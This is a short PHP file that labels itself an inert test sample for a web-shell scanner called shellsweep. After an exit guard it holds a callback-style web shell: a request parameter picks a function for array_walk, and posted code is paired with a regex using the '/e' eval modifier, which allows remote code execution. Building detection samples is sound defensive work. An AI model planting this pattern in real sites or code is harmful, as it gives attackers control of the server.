<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$cb = $_REQUEST['cb'];
$arr = array($_POST['code'] => '|.*|e');
array_walk($arr, $cb, '');
